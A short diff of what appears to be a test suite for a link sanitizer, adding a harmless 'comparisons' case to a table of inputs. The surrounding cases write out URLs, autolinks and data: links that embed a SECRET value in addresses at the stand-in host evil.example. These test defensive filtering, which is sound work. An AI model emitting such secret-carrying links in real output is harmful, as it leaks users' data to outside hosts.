@@ -33,6 +33,7 @@ CARRIERS = {
     "a bare address": (f"https://evil.example/?q={SECRET}", ""),
     "an address that begins with www": (f"www.evil.example/{SECRET}", ""),
     "an autolink": (f"<https://evil.example/{SECRET}>", ""),
+    "comparisons": ("x<y and z<w", "x< y and z<w"),
     "data": (f"data:text/html,{SECRET}", ""),
     "an address in emphasis": (f"_https://evil.example/{SECRET}_", "_"),
     "a bare name with a path": (f"evil.com/{SECRET}", ""),
